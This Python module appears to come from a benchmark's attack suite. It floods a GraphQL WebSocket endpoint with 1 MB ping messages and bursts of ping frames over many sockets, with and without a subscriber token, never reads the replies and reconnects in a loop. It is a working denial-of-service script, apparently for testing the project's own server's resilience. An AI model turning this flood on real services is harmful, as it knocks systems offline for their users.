"""Sockets with and without a token send pings as fast as they can, and never read: messages of 1 MB, and frames."""

import asyncio
import base64
import contextlib
import os
from urllib.parse import urlsplit

from bench.attacks.target import Target
from bench.sockets import PING, SUBPROTOCOL, frame, text_frame

SOCKETS = 5  # of each kind
MESSAGE = text_frame({"type": "ping", "payload": {"text": "x" * 990_000}})
FRAMES = frame(PING, bytes(125)) * 2_000


async def attack(target: Target) -> None:
    await asyncio.gather(
        *(
            _flood(target, flood, token)
            for flood in (MESSAGE, FRAMES)
            for token in (None, target.token("subscriber"))
            for _ in range(SOCKETS)
        )
    )


async def _flood(target: Target, flood: bytes, token: str | None) -> None:
    while True:
        with contextlib.suppress(OSError, TimeoutError, asyncio.IncompleteReadError):
            await _socket(target, flood, token)
        await asyncio.sleep(0.1)


async def _socket(target: Target, flood: bytes, token: str | None) -> None:
    parts = urlsplit(target.graphql)
    # The reader stops after a few bytes, so the server's answers stay unread.
    reader, writer = await asyncio.open_connection(parts.hostname, parts.port, limit=1_000)
    try:
        key = base64.b64encode(os.urandom(16)).decode()
        writer.write(
            f"GET {parts.path} HTTP/1.1\r\nHost: {parts.netloc}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            f"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: {SUBPROTOCOL}\r\nSec-WebSocket-Key: {key}\r\n\r\n".encode()
        )
        await reader.readuntil(b"\r\n\r\n")
        if token is not None:
            writer.write(text_frame({"type": "connection_init", "payload": {"Authorization": f"Bearer {token}"}}))
        while True:
            writer.write(flood)
            await writer.drain()
    finally:
        writer.close()
